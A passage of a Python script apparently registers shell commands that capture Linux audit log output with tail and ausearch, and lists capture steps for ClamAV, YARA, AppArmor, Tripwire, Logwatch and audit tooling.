    add("audit-raw-tail", "tail -n 220 /var/log/audit/audit.log.1", a("tail -n 220 audit.log.1"), n_audit_raw)
    add("ausearch-csv-fs02", "ausearch --format csv -if /var/log/audit/audit.log | head -n 300",
        a("ausearch --format csv -if audit.log 2>&1 | head -n 300"), n_ausearch_csv)
    add("ausearch-csv-types", "ausearch -m USER_AUTH,AVC,ANOM_ABEND,SERVICE_START --format csv -if audit.log ; echo EXIT=$?",
        a("ausearch -m USER_AUTH,AVC,ANOM_ABEND,SERVICE_START --format csv -if audit.log 2>&1; echo EXIT=$?"),
        n_ausearch_csv)
    add("ausearch-text-old", "ausearch --format text -if /var/log/audit/audit.log.1 | head -n 250",
        a("ausearch --format text -if audit.log.1 2>&1 | head -n 250"), n_ausearch_text)


STEPS = [cap_clamav, cap_yara, cap_apparmor, cap_tripwire, cap_logwatch, cap_audit]
